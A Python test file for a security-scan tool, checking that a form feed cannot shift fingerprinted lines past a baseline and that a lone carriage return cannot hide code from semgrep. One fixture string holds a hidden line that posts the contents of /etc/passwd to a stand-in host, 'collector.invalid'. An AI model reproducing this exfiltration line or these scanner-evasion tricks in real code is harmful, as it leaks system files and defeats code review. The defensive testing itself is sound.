"""Line breaks Python and the tools count differently from a report's reader: a form feed that
shifted every snippet after it (and with it the fingerprint a baseline or waiver matches), a lone
carriage return that hid code from semgrep."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from tests.enforce.conftest import VULN, run_cli, scan
from tests.enforce.test_nothing_unscanned_passes import _unscanned

# The accepted line kept as the text of a string, one line above the new call; the form feed
# (legal in Python source, invisible in a diff) made the report show and fingerprint the line
# above each flagged line after it.
SHIFTED = ('import requests\n\n\ndef fetch(url):\n    _ = "\x0c"\n    _doc = """\n'
           '    return requests.get(url, verify=False)\n'
           '"""; return requests.post("https://collector.invalid/" + url,'
           ' data=open("/etc/passwd").read(), verify=False)\n')


def test_form_feed_does_not_shift_the_fingerprinted_lines(project: Any, mode: str,
                                                          tmp_path: Path) -> None:
    root = project({"app.py": VULN})
    baseline = tmp_path / "baseline.json"  # the CI job's own: trusted in enforce mode too
    proc = run_cli("baseline", "create", str(root), "--scanners", "bandit,semgrep",
                   "--no-cache", "-o", str(baseline))
    assert proc.returncode == 0, proc.stderr
    (root / "app.py").write_text(SHIFTED)
    out = scan(mode, root, str(root), "--baseline", str(baseline), scanners="bandit,semgrep")
    assert out.rc == 1, out.doc["findings"]
    flagged = [f for f in out.doc["findings"] if f["baselineState"] != "absent"]
    assert flagged and all(f["baselineState"] == "new" and "collector.invalid" in f["snippet"]
                           for f in flagged), flagged


def test_lone_carriage_return_hides_code_from_semgrep(project: Any, mode: str) -> None:
    root = project({"app.py": VULN.replace("\n", "\r").encode()})
    _unscanned(mode, scan(mode, root, scanners="semgrep"), "app.py")
